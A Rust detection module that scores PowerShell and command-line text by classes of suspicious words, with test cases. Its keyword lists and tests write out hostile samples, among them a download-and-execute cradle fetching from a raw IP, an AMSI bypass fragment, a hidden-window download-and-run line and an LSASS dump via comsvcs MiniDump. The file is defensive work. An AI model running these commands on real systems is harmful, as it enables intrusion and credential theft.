//! What a script or command line does, by classes of telling words: download, execution in memory, hiding,
//! tampering with defences, credential theft, an address in place of a name.
//!
//! One class is everyday work; two of different classes are worth a look, three are rarely innocent.

use std::net::{Ipv4Addr, Ipv6Addr};
use std::sync::LazyLock;

use aho_corasick::AhoCorasick;
use regex::Regex;

use super::cmdline::capped;

/// Longest text that is searched, in bytes.
const MAX_TEXT: usize = 1 << 20;

/// Tokens kept as evidence.
const MAX_TOKENS: usize = 32;

/// What a telling word is about.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
#[repr(u8)]
pub enum Class {
    /// Fetches something: T1105.
    Download,
    /// Runs text or bytes from memory: T1059.001, T1620.
    Execute,
    /// Hides its window: T1564.003.
    Hide,
    /// Blinds or switches off defences: T1685.
    Tamper,
    /// Takes credentials: T1003.
    Credentials,
    /// A URL with an address in place of a name.
    RawIpUrl,
}

impl Class {
    /// All classes, in the order of their bits.
    pub const ALL: [Class; 6] = [
        Class::Download,
        Class::Execute,
        Class::Hide,
        Class::Tamper,
        Class::Credentials,
        Class::RawIpUrl,
    ];
}

/// The classes of a text and the words that stand for them.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ClassSet {
    bits: u8,
    /// The words, lower case, without repeats, sorted by class and word; at most 32.
    pub tokens: Vec<(Class, String)>,
}

impl ClassSet {
    /// Whether a class was found.
    pub fn contains(&self, class: Class) -> bool {
        self.bits & bit(class) != 0
    }

    /// Number of different classes.
    pub fn count(&self) -> u32 {
        self.bits.count_ones()
    }

    /// Whether nothing was found.
    pub fn is_empty(&self) -> bool {
        self.bits == 0
    }

    fn add(&mut self, class: Class, token: &str) {
        self.bits |= bit(class);
        self.note(class, token);
    }

    fn note(&mut self, class: Class, token: &str) {
        let entry = (class, token.trim().to_ascii_lowercase());
        if self.tokens.len() < MAX_TOKENS
            && let Err(at) = self.tokens.binary_search(&entry)
        {
            self.tokens.insert(at, entry);
        }
    }
}

/// Finds the classes of a text. Case does not matter; backticks and joined string literals (`'Down'+'load'`)
/// are looked through. Text beyond 1 MiB is ignored.
pub fn classes(text: &str) -> ClassSet {
    let text = capped(text, MAX_TEXT);
    let mut found = ClassSet::default();
    search(text, &mut found);
    if let Some(plain) = without_disguise(text) {
        search(&plain, &mut found);
    }
    found
}

fn search(text: &str, found: &mut ClassSet) {
    let Some(patterns) = PATTERNS.as_ref() else {
        return;
    };
    for hit in patterns.words.find_overlapping_iter(text) {
        if let Some((class, word)) = WORDS.get(hit.pattern().as_usize()) {
            found.add(*class, word);
        }
    }
    for (class, regex) in &patterns.regexes {
        for hit in regex.captures_iter(text).take(MAX_TOKENS) {
            if let Some(token) = hit.get(1) {
                found.add(*class, token.as_str());
            }
        }
    }
    for hit in patterns.url.captures_iter(text) {
        if let Some(host) = hit.get(1)
            && is_raw_address(host.as_str())
        {
            found.add(Class::RawIpUrl, host.as_str());
            break;
        }
    }
    // `-NoProfile -NonInteractive` is how every scheduled script is started: worth naming beside a hidden window only.
    if found.contains(Class::Hide) {
        for hit in patterns.quiet.captures_iter(text).take(8) {
            if let Some(token) = hit.get(1) {
                found.note(Class::Hide, token.as_str());
            }
        }
    }
}

/// Words that need no boundary: nothing longer contains them by chance.
static WORDS: &[(Class, &str)] = &[
    (Class::Download, "downloadstring"),
    (Class::Download, "downloadfile"),
    (Class::Download, "downloaddata"),
    (Class::Download, "invoke-webrequest"),
    (Class::Download, "invoke-restmethod"),
    (Class::Download, "net.webclient"),
    (Class::Download, "net.http.httpclient"),
    (Class::Download, "net.webrequest"),
    (Class::Download, "start-bitstransfer"),
    (Class::Download, "msxml2.xmlhttp"),
    (Class::Download, "winhttp.winhttprequest"),
    (Class::Execute, "invoke-expression"),
    (Class::Execute, "virtualalloc"),
    (Class::Execute, "createthread"),
    (Class::Execute, "createremotethread"),
    (Class::Execute, "getdelegateforfunctionpointer"),
    (Class::Execute, "reflection.assembly]::load"),
    (Class::Execute, "[appdomain]::currentdomain.load"),
    (Class::Execute, "invoke-reflectivepeinjection"),
    (Class::Tamper, "amsiinitfailed"),
    (Class::Tamper, "amsiscanbuffer"),
    (Class::Tamper, "amsiutils"),
    (Class::Tamper, "amsicontext"),
    (Class::Tamper, "set-mppreference"),
    (Class::Tamper, "add-mppreference"),
    (Class::Tamper, "etweventwrite"),
    (Class::Tamper, "psetwlogprovider"),
    (Class::Tamper, "bypass etw"),
    (Class::Tamper, "scriptblocklogging"),
    (Class::Credentials, "minidump"),
    (Class::Credentials, "sekurlsa"),
    (Class::Credentials, "comsvcs"),
    (Class::Credentials, "lsadump"),
    (Class::Credentials, "invoke-mimikatz"),
    (Class::Credentials, "kerberos::"),
];

struct Patterns {
    words: AhoCorasick,
    regexes: Vec<(Class, Regex)>,
    quiet: Regex,
    url: Regex,
}

static PATTERNS: LazyLock<Option<Patterns>> = LazyLock::new(|| {
    let words = AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build(WORDS.iter().map(|(_, word)| word))
        .ok()?;
    let regexes = REGEXES
        .iter()
        .map(|(class, pattern)| Some((*class, Regex::new(pattern).ok()?)))
        .collect::<Option<Vec<_>>>()?;
    Some(Patterns {
        words,
        regexes,
        quiet: Regex::new(r"(?i)(?:^|\s)([-/](?:nop(?:rofile)?|noni(?:nteractive)?|sta))\b").ok()?,
        url: Regex::new(
            r"(?i)\b(?:https?|ftp)://(?:[^\s/@]{0,64}@)?(\[[0-9a-f:.]{2,45}\]|[0-9a-fx.]{3,45})(?:[:/?#'\x22\s),;]|$)",
        )
        .ok()?,
    })
});

/// Short words, each with the boundary that makes it one. Group 1 is the word.
static REGEXES: &[(Class, &str)] = &[
    (
        Class::Download,
        r"(?i)(?:^|[^\w.\-])(iwr|irm|(?:curl|wget)(?:\.exe)?)(?:[^\w.\-]|$)",
    ),
    (Class::Execute, r"(?i)(?:^|[^\w.\-])(iex)(?:[^\w.\-]|$)"),
    // `&('i'+'ex')`, `.("Invoke"+…)`, `&(gcm i*x)`: a name that is built or looked up; `& ($path)` is ordinary.
    (
        Class::Execute,
        r#"(?i)((?:&|(?:^|[\s;|{(=])\.)\s*\(\s*(?:\(?\s*['"]|gcm\b|get-command\b|gal\b|get-alias\b|\$env:comspec|\$pshome|\$shellid|\$verbosepreference))"#,
    ),
    (Class::Execute, r"(?i)\b(add-type)\b"),
    (Class::Execute, r"(?i)\[(assembly\]::load)"),
    // `-w hidden`, `-WindowStyle Hidden`, `-win 1`: any prefix of the parameter, the value by name or number.
    (
        Class::Hide,
        r"(?i)(?:^|[\s'\x22(])([-/\x{2013}\x{2014}\x{2015}]w(?:i(?:n(?:d(?:o(?:w(?:s(?:t(?:y(?:le?)?)?)?)?)?)?)?)?)?[\s:]+['\x22]?(?:h(?:i(?:d(?:d(?:en?)?)?)?)?|1))(?:[\s'\x22;,)]|$)",
    ),
];

/// Whether the host of a URL is an address on the network: dotted, IPv6, or one number. Loopback and
/// link-local addresses (among them the metadata services of clouds) do not count.
fn is_raw_address(host: &str) -> bool {
    if let Some(v6) = host.strip_prefix('[').and_then(|h| h.strip_suffix(']')) {
        let address = v6.parse::<Ipv6Addr>();
        return address.is_ok_and(|a| !a.is_loopback() && !a.is_unicast_link_local());
    }
    let address = match host.parse::<Ipv4Addr>() {
        Ok(address) => Some(address),
        Err(_) => one_number(host).map(Ipv4Addr::from_bits),
    };
    address.is_some_and(|a| !a.is_loopback() && !a.is_link_local() && !a.is_unspecified())
}

/// `3232235777` or `0xC0A80101`, as browsers accept for an address. A shorter number is a host name in a lab.
fn one_number(host: &str) -> Option<u32> {
    match host.strip_prefix("0x").or_else(|| host.strip_prefix("0X")) {
        Some(hex) => u32::from_str_radix(hex, 16).ok(),
        None if host.len() >= 8 => host.parse().ok(),
        None => None,
    }
}

/// The text without backticks and with joined literals closed up; `None` when it has neither.
fn without_disguise(text: &str) -> Option<String> {
    static JOINED: LazyLock<Option<Regex>> =
        LazyLock::new(|| Regex::new(r#"'\s{0,8}\+\s{0,8}'|"\s{0,8}\+\s{0,8}""#).ok());
    let joined = JOINED.as_ref().is_some_and(|regex| regex.is_match(text));
    if !joined && !text.contains('`') {
        return None;
    }
    let plain = text.replace('`', "");
    let regex = JOINED.as_ref()?;
    Some(regex.replace_all(&plain, "").into_owned())
}

const fn bit(class: Class) -> u8 {
    1 << class as u8
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(text: &str, expected: &[Class]) {
        let found = classes(text);
        let all: Vec<Class> = Class::ALL.into_iter().filter(|c| found.contains(*c)).collect();
        assert_eq!(all, expected, "{text}: {:?}", found.tokens);
    }

    #[test]
    fn telling_words_are_found_by_class() {
        use Class::*;
        check(
            "IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')",
            &[Download, Execute, RawIpUrl],
        );
        check(
            "[Ref].Assembly.GetType(\"x\").GetField(\"amsiInitFailed\"); VirtualAlloc",
            &[Execute, Tamper],
        );
        check(
            "powershell -w hidden -nop -c \"iwr https://a.example/a -o a.exe; iex .\\a.exe\"",
            &[Download, Execute, Hide],
        );
        check("powershell -WindowStyle Hidden -File x.ps1", &[Hide]);
        check("rundll32 comsvcs.dll, MiniDump 640 x full", &[Credentials]);
        check("&('i'+'ex') $x", &[Execute]);
        check("I`nvo`ke-Exp`ression $x", &[Execute]);
        check("('Down'+\"load\" + \"String\")", &[]);
        check("$w.('Down'+'loadStr' + 'ing')", &[Download]);
    }

    #[test]
    fn everyday_text_has_no_class() {
        for text in [
            "Get-Service | Where Status -eq Running",
            "Import-Module ActiveDirectory",
            "powershell -NoProfile -NonInteractive -File C:\\jobs\\a.ps1",
            "C:\\tools\\libcurl.dll",
            "iexplore.exe http://intranet/",
            "& (Join-Path $root 'a.ps1')",
            "-warning 1",
            "http://127.0.0.1:8080/ http://169.254.169.254/latest http://dead.beef/ http://1.2.3/",
        ] {
            check(text, &[]);
        }
        check(
            "Invoke-WebRequest https://packages.corp.example/agent.msi",
            &[Class::Download],
        );
    }

    #[test]
    fn addresses_are_recognised_in_every_form() {
        for url in [
            "http://203.0.113.9/x",
            "https://203.0.113.9:8443",
            "http://[2001:db8::1]/a",
            "http://3405803785/a",
            "http://0xCB007109/a",
            "http://user:pw@203.0.113.9/x",
        ] {
            check(url, &[Class::RawIpUrl]);
        }
    }

    #[test]
    fn tokens_are_evidence_in_a_fixed_order() {
        let found = classes("irm x; IRM y; -w 1 -nop iex");
        let tokens: Vec<&str> = found.tokens.iter().map(|(_, t)| t.as_str()).collect();
        assert_eq!(tokens, ["irm", "iex", "-nop", "-w 1"]);
        assert_eq!(found.count(), 3);
    }

    #[test]
    fn hostile_text_is_bounded() {
        let text = "iex `'+'".repeat(400_000);
        assert!(classes(&text).tokens.len() <= MAX_TOKENS);
        assert!(classes(&"あ".repeat(1 << 20)).is_empty());
    }
}
